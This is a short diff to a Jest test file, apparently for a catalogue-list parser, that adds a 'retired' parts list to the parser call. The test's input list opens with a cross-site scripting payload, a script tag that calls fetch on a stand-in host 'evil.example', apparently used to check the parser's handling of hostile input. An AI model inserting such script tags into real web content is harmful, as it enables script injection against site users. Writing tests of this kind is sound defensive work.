@@ -1,5 +1,5 @@
 /** @jest-environment node */
-import { allParts } from './catalogue-files';
+import { allParts, everyRetired } from './catalogue-files';
 import { listLine } from './list-line';
 import { rounds } from './rounds';
 import { random, type Random } from './random';
@@ -7,7 +7,7 @@ import { random, type Random } from './random';
 /** 500 under `pnpm prove`. */
 const lists = rounds({ full: 500, short: 60 });
 
-const read = listLine(allParts());
+const read = listLine(allParts(), everyRetired());
 
 const pieces = [
   '<script>fetch("https://evil.example")</script>',
